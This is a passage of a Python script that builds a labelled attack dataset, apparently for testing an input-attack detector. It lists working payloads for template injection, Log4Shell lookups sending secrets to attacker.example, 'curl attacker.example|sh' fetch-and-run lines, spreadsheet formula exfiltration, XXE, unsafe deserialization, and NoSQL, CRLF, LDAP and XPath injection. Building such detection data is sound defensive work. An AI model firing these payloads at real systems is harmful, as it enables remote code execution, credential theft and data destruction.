    ("ssti-pug-interpolation", "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}"),
    ("ssti-ejs-execsync", "<%= process.mainModule.require('child_process').execSync('id') %>"),
    ("ssti-nunjucks-range-constructor", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("ssti-smarty-system", "Crew note {system('id')}"),
    ("ssti-smarty-php-tag", "{php}echo `id`;{/php}"),
    ("ssti-smarty-writefile", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}"),
    ("ssti-mako-block", "<% import os; x=os.popen('id').read() %>${x}"),
    ("ssti-mako-import-expr", "${__import__('os').popen('id').read()}"),
    ("ssti-tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("ssti-django-secret-leak", "Hi {{ settings.SECRET_KEY }}"),
    ("ssti-razor-process-start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("ssti-pebble-forname", "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}"),
    ("spel-runtime-exec", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("spel-dollar-shell-array", "${T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','curl attacker.example|sh'})}"),
    ("ognl-struts-member-access", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("ognl-ioutils-response-header", "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream(),'utf-8')).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader('X-Cmd',#a))}"),
    ("jakarta-el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("php-eval-system", "system('id');"),
    ("php-eval-string-breakout", "'.system('id').'"),
    ("python-eval-import-os", "__import__('os').system('id')"),
    ("python-eval-subclasses", "().__class__.__base__.__subclasses__()"),
    ("node-eval-child-process", "require('child_process').exec('curl attacker.example|sh')"),
    ("node-eval-mainmodule-execsync", "process.mainModule.require('child_process').execSync('id').toString()"),
    ("node-eval-readfile-after-expr", "1;require('fs').readFileSync('/etc/passwd','utf8')"),
    ("ruby-eval-system", "system('id')"),
    ("log4shell-ldap", "${jndi:ldap://attacker.example/a}"),
    ("log4shell-lower-lookup-obfuscation", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
    ("log4shell-default-value-obfuscation", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.55:1099/o}"),
    ("log4shell-dns-env-exfil", "${jndi:dns://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}"),
    ("log4shell-env-nan-obfuscation", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}"),
    ("log4shell-driver-name-ldaps", "Driver name: ${jndi:ldaps://log.attacker.example:636/crew}"),
    ("log4shell+urlencode", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D"),
    ("log4shell-upper-lookup", "Reg AB12 CDE ${j${upper:n}di:ldap://attacker.example/u}"),
    ("prototype-pollution-json-proto", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("prototype-pollution-constructor-prototype", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("prototype-pollution-querystring", "__proto__[isAdmin]=true"),
    ("prototype-pollution-ejs-gadget", "{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');x\"}}"),
    ("csv-dde-cmd", "=cmd|' /C calc'!A0"),
    ("csv-hyperlink-exfil", "=HYPERLINK(\"http://attacker.example/?d=\"&A1&B1,\"Open manifest\")"),
    ("csv-plus-dde-powershell", "+SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
    ("csv-minus-dde", "-2+3+cmd|' /C notepad'!'A1'"),
    ("csv-at-dde", "@SUM(cmd|'/c calc'!A1)"),
    ("csv-webservice-exfil", "=WEBSERVICE(\"http://attacker.example/x?\"&A2)"),
    ("csv-sheets-importxml", "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A1:B3),\"//a\")"),
    ("xxe-manifest-file", "<?xml version=\"1.0\"?><!DOCTYPE m [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><manifest><line>&x;</line></manifest>"),
    ("xxe-oob-parameter-entity", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><r/>"),
    ("xinclude-text", "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hosts\"/></x>"),
    ("xxe-svg-upload", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&e;</text></svg>"),
    ("xxe-billion-laughs", "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><l>&d;</l>"),
    ("xxe-ssrf-imds", "<?xml version=\"1.0\"?><!DOCTYPE t [<!ENTITY s SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><timetable>&s;</timetable>"),
    ("yaml-python-apply-system", "!!python/object/apply:os.system [\"id\"]"),
    ("yaml-python-new-check-output", "!!python/object/new:subprocess.check_output [[\"id\"]]"),
    ("yaml-python-popen", "!!python/object/apply:subprocess.Popen [[\"sh\",\"-c\",\"curl attacker.example|sh\"]]"),
    ("yaml-snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("pickle-base64-os-system", "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg=="),
    ("java-fastjson-jdbcrowset", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/Exploit\",\"autoCommit\":true}"),
    ("java-jackson-default-typing", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"rmi://203.0.113.55:1099/x\",\"autoCommit\":true}]"),
    ("dotnet-jsonnet-objectdataprovider", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("php-object-injection-app-class", "O:18:\"ManifestExportTask\":1:{s:7:\"command\";s:24:\"curl attacker.example|sh\";}"),
    ("php-phar-wrapper-deser", "phar://uploads/manifest.jpg/x"),
    ("node-serialize-iife", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("python-jsonpickle-reduce", "{\"py/reduce\": [{\"py/function\": \"os.system\"}, {\"py/tuple\": [\"id\"]}]}"),
]
T["code"] = (
    ["Notice text: ", "Booking note: ", "Email greeting for "],
    [
        ("ssti-jinja2-os-popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ("log4shell-ldap", "${jndi:ldap://attacker.example/f}"),
        ("spel-runtime-exec", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
        ("ssti-freemarker-execute", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
    ],
)

# ====================================================================== NoSQL injection
A["nosqli"] = [
    ("mongo-ne-null", "{\"$ne\": null}"),
    ("mongo-gt-empty", "{\"$gt\": \"\"}"),
    ("mongo-regex-all", "{\"$regex\": \".*\"}"),
    ("mongo-regex-prefix-options", "{\"$regex\": \"^adm\", \"$options\": \"i\"}"),
    ("mongo-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("mongo-where-string-or-true", "' || '1'=='1"),
    ("mongo-where-return-true", "'; return true; var d='"),
    ("mongo-where-numeric-or", "1 || 1==1"),
    ("mongo-where-dos-loop", "'; while(true){}; var x='"),
    ("mongo-in-roles", "{\"$in\": [\"admin\", \"ops\", \"root\"]}"),
    ("mongo-nin-empty", "{\"$nin\": [\"\"]}"),
    ("mongo-exists", "{\"$exists\": true}"),
    ("mongo-expr-always-true", "{\"$expr\": {\"$eq\": [1, 1]}}"),
    ("mongo-function-sleep", "{\"$function\": {\"body\": \"function(){sleep(3000);return true}\", \"args\": [], \"lang\": \"js\"}}"),
    ("querystring-ne-ref", "ref[$ne]=FL-00000"),
    ("querystring-regex-email", "email[$regex]=^a.*@ferryline"),
    ("mongo-where-password-match", "Oban' && this.password.match(/^p/) && 'a'=='a"),
    ("mongo-or-empty", "{\"$or\": [{}, {\"a\": \"a\"}]}"),
    ("mongo-login-ne-both", "{\"username\": {\"$ne\": \"x\"}, \"password\": {\"$ne\": \"x\"}}"),
    ("mongo-aggregate-lookup", "{\"$lookup\": {\"from\": \"users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"u\"}}"),
    ("mongo-where-drop-legacy", "'; db.bookings.drop(); var x='"),
    ("couchdb-selector-gt-null", "{\"selector\": {\"_id\": {\"$gt\": null}}}"),
    ("mongo-ne-null+urlencode", "%7B%22%24ne%22%3Anull%7D"),
    ("mongo-ne+json-unicode-escape", "{\"\\u0024ne\": null}"),
    ("mongo-where-crew-pin-length", "{\"$where\":\"this.crew_pin.length == 4\"}"),
    ("mongo-where-fare-breakout", "'||this.fare_pence<100||'"),
    ("querystring-gt-password", "password[$gt]="),
]
T["nosqli"] = ([], [])

# ====================================================================== CRLF: log forging, header injection, mail header injection
A["crlf"] = [
    ("log-forging-fake-login", "FL-20931\n2025-06-14T10:22:01Z INFO login success user=admin ip=10.0.0.4"),
    ("log-forging-refund+urlencode", "Oban%0d%0a[INFO] payment refunded ref=FL-99999 amount=999.00"),
    ("log-forging-access-log-line", "Craignure\r\n127.0.0.1 - admin [14/Jun/2025:10:00:00 +0000] \"GET /admin HTTP/1.1\" 200 512"),
    ("log-forging-unicode-line-separator", "Mull\u2028ERROR 2025-06-14 booking service: all payments voided"),
    ("header-injection-set-cookie", "en-GB\r\nSet-Cookie: session=attacker; Path=/"),
    ("redirect-param-location+urlencode", "/manage%0d%0aLocation:%20https://attacker.example/"),
    ("response-splitting-html+urlencode", "/timetable?r=7%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("header-injection-xff+urlencode", "%0d%0aX-Forwarded-For:%20127.0.0.1"),
    ("header-injection-set-cookie+double-urlencode", "%250d%250aSet-Cookie:%2520x=1"),
    ("header-injection+utf8-crlf-truncation", "%E5%98%8A%E5%98%8DSet-Cookie:%20a=b"),
    ("header-injection-cors", "\r\nAccess-Control-Allow-Origin: https://attacker.example"),
    ("header-injection+%u-encoding", "%u000d%u000aSet-Cookie: x=1"),
    ("mail-header-bcc", "jo@example.com\r\nBcc: list@attacker.example"),
    ("mail-subject-cc", "Booking query\nCc: spam1@attacker.example, spam2@attacker.example"),
    ("mail-subject-bcc+urlencode", "Refund request%0ABcc:%20harvest@attacker.example"),
    ("mail-name-body-injection", "Sarah Jones\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/pay>Pay now</a>"),
    ("mail-from-subject+urlencode", "x@example.com%0d%0aSubject:%20Your%20booking%20is%20cancelled"),
    ("mail-reply-to", "ops@ferryline.example\nReply-To: refunds@attacker.example"),
    ("log-forging-crew-override", "MacLeod\n[2025-06-14 06:00:01] WARN crew_rota: master override approved by capt.reid"),
    ("log-forging-sailing-status", "AB12CDE\nsailing=1042 status=CANCELLED by=ops"),
    ("log-forging-multi-lf+urlencode", "FL-44012%0a%0a%0aadmin%20logged%20out"),
    ("log-ansi-escape", "Lerwick\x1b[2J\x1b[1;31mSYSTEM COMPROMISED\x1b[0m"),
    ("request-splitting-fetched-url", "http://10.0.0.8/ HTTP/1.1\r\nHost: internal\r\n\r\nGET /admin HTTP/1.1\r\nHost: internal"),
    ("header-injection-cookie-xss+urlencode", "%0D%0ASet-Cookie:%20lang=%3Cscript%3Ealert(1)%3C/script%3E"),
    ("header-injection-bare-cr", "\rSet-Cookie: x=y"),
    ("header-injection-bare-lf-location", "\nLocation: //attacker.example"),
    ("header-injection-content-disposition+urlencode", "Oban%0AContent-Disposition:%20attachment;%20filename=timetable.bat"),
    ("header-injection+latin-ext-truncation", "%c4%8d%c4%8aSet-Cookie: a=b"),
    ("mail-subject-to", "Crew rota\r\nTo: all-crew@attacker.example"),
    ("log-forging-audit-hazmat", "driver=J.Smith\r\n2025-06-14 09:12:44 AUDIT manifest 77 approved hazmat=none"),
]
T["crlf"] = ([], [])

# ====================================================================== LDAP / XPath
A["ldap-xpath"] = [
    ("ldap-uid-wildcard-close", "*)(uid=*))(|(uid=*"),
    ("ldap-and-true", "admin)(&)"),
    ("ldap-or-objectclass", "*)(|(objectClass=*)"),
    ("ldap-password-attr-probe", "crew*)(|(userPassword=*)"),
    ("ldap-group-membership", "Reid)(|(memberOf=cn=masters,ou=groups,dc=ferryline,dc=example)"),
    ("ldap-null-byte-truncate", "*))%00"),
    ("ldap-wildcard+urlencode", "%2A%29%28uid%3D%2A"),
    ("ldap-not-filter", "jsmith)(!(department=x)"),
    ("ldap-blind-sn-prefix", "*)(sn=a*"),
    ("ldap-mail-wildcard", "*)(mail=*@ferryline.example"),
    ("xpath-name-or", "x' or name()='crew' or 'a'='b"),
    ("xpath-or-true", "' or 1=1 or ''='"),
    ("xpath-union-passwords", "Oban'] | //user/password | //route['"),
    ("xpath-count-probe", "' and count(/*)=1 and '1'='1"),
    ("xpath-blind-substring", "' and substring(//user[1]/password,1,1)='a' and ''='"),
    ("xpath-select-all", "')] | //* | /a[('"),
    ("xpath-string-length-probe", "' or string-length(name(/*[1]))>0 or ''='"),
    ("xpath-numeric-or", "1 or 1=1"),
    ("xpath-crew-pin-union", "'] | //crew/member[role='master']/pin | /x['"),
    ("xpath2-doc-remote", "') or doc('http://attacker.example/x.xml')/a or ('"),
]
T["ldap-xpath"] = ([], [])

ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]


def main():
    rng = random.Random(SEED)
    here = os.path.dirname(os.path.abspath(__file__))
    out = os.path.join(here, "attacks.jsonl")
    rows = []
    seen = set()
    n = 0
    stats = {}
    for cat in ORDER:
        vals = []
        for cls, v in A[cat]:
            assert v and v not in seen, (cat, v)
            seen.add(v)
            vals.append((cls, v))
        nlit = len(vals)
        prefixes, payloads = T[cat]
        tries = 0
        while len(vals) < TARGET[cat]:
            tries += 1
            assert tries < 10000 and prefixes, cat
            p = rng.choice(prefixes)
            cls, pl = rng.choice(payloads)
            v = p + pl
            if v in seen:
                continue
            seen.add(v)
            vals.append((cls + "+prefixed", v))
        assert len(vals) == TARGET[cat], (cat, len(vals))
        stats[cat] = (len(vals), nlit)
        for cls, v in vals:
            n += 1
            rows.append({"id": "%s-%05d" % (PREFIX, n), "category": cat, "class": cls,
                         "label": "attack", "value": v})
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    lit = sum(s[1] for s in stats.values())
    print("wrote %d rows (%d literal, %.1f%%) to %s" % (len(rows), lit, 100.0 * lit / len(rows), out))
    for cat in ORDER:
        print("  %-11s n=%d literals=%d" % (cat, stats[cat][0], stats[cat][1]))


if __name__ == "__main__":
    main()
